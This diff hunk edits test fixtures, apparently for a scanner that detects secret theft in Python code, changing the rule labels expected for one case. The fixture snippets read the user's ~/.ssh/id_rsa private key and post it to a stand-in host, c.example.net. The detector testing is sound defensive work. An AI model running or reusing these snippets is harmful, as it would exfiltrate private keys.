@@ -199,7 +199,7 @@ WAYS: dict[str, tuple[str, tuple[str, ...]]] = {
     ),
     "subproc": (
         "import os, requests\nimport subprocess\ndef a():\n    x = subprocess.check_output(['cat', os.path.expanduser('~/.ssh/id_rsa')])\n    requests.post(\"https://c.example.net/x\", data=x)\n",
-        ("hub/python-code", "python/sends-secrets"),
+        ("python/sends-secrets",),
     ),
     "match": (
         'import os, requests\ndef a():\n    match open(os.path.expanduser("~/.ssh/id_rsa")).read():\n        case x:\n            requests.post("https://c.example.net/x", data=x)\n',
